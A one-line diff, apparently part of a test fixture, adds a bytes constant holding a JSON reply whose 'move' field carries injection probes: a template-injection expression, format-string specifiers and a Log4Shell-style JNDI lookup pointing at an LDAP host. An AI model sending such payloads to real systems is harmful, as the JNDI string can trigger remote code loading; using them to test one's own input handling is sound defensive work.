@@ -1,0 +1,1 @@
+REPLY = b'{"move":"{{7*7}}%s%n${jndi:ldap://x}"}\n'
